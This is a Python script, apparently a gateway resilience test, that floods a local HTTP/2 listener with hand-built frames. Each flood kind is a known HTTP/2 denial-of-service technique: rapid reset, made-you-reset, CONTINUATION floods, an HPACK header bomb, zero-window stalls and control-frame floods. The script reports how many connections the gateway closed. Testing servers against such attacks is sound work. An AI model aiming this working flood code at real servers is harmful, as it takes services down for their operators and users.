"""Floods a listener over HTTP/2, with frames made by hand, as fast as it takes them.

Usage: http2_flood.py PORT KIND CONNECTIONS SECONDS

Prints how many connections the gateway ended, and how much it was sent.
"""

import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def string(text):
        # RFC 7541 section 5.1, for lengths that need at most two bytes behind the first.
        if len(text) < 127:
            return bytes([len(text)]) + text
        rest = len(text) - 127
        return bytes([127, rest & 0x7F | 0x80, rest >> 7]) + text

    return b"\x00" + string(name) + string(value)


POST = b"\x83\x86\x84" + b"\x01\x09localhost"
GET = b"\x82\x86\x84" + b"\x01\x09localhost"


def rapid_reset(number):
    return frame(1, END_STREAM | END_HEADERS, number, GET) + frame(3, 0, number, struct.pack(">I", 8))


def made_you_reset(number):
    return frame(1, END_STREAM | END_HEADERS, number, GET) + frame(8, 0, number, struct.pack(">I", 0))


def continuation(number):
    start = frame(1, END_STREAM, 1, GET) if number == 1 else b""
    return start + frame(9, 0, 1, literal(b"x-%d" % number, b"y" * 1000))


def empty_continuation(number):
    return (frame(1, END_STREAM, 1, GET) if number == 1 else b"") + frame(9, 0, 1)


def header_bomb(number):
    # A field of nearly the whole table, named again and again by an index of one byte.
    large = b"\x40" + literal(b"x", b"y" * 4000)[1:] if number == 1 else b""
    return frame(1, END_STREAM | END_HEADERS, number, GET + large + b"\xbe" * 12000)


def zero_windows(number):
    start = frame(4, 0, 0, struct.pack(">HI", 4, 0)) if number == 1 else b""
    return start + frame(1, END_STREAM | END_HEADERS, number, GET)


def unfinished(number):
    return frame(1, END_HEADERS, number, POST) + frame(0, 0, number, b"x" * 16000)


KINDS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "header-bomb": header_bomb,
    "zero-windows": zero_windows,
    "unfinished": unfinished,
    "settings": lambda number: frame(4, 0, 0),
    "ping": lambda number: frame(6, 0, 0, b"12345678"),
    "priority": lambda number: frame(2, 0, number, b"\x00\x00\x00\x00\x01"),
    "window-update": lambda number: frame(8, 0, 0, struct.pack(">I", 1)),
    "empty-data": lambda number: (frame(1, END_HEADERS, 1, POST) if number == 1 else b"") + frame(0, 0, 1),
    "unread": lambda number: frame(1, END_STREAM | END_HEADERS, number, GET),
}


def flood(port, kind, seconds):
    """How the connection ended, if the gateway ended it, and how many bytes it took."""
    connection = socket.create_connection(("127.0.0.1", port))
    connection.sendall(PREFACE + frame(4, 0, 0))
    connection.setblocking(False)
    end = time.monotonic() + seconds
    pending = b""
    sent = 0
    number = 1
    try:
        while time.monotonic() < end:
            if not pending:
                pending = b"".join(KINDS[kind](number + 2 * step) for step in range(100))
                number += 200
            # What is never read is one of the attacks.
            readable, writable, _ = select.select([] if kind == "unread" else [connection], [connection], [], 0.1)
            if readable:
                if not connection.recv(1 << 20):
                    return "ended", sent
            if writable:
                count = connection.send(pending)
                sent += count
                pending = pending[count:]
    except OSError:
        return "ended", sent
    finally:
        connection.close()
    return "open", sent


port, kind, connections, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
results = [flood(port, kind, seconds) for _ in range(connections)]
ended = sum(how == "ended" for how, _ in results)
print(f"{kind}: {ended} of {connections} connections ended, {sum(sent for _, sent in results)} bytes taken")
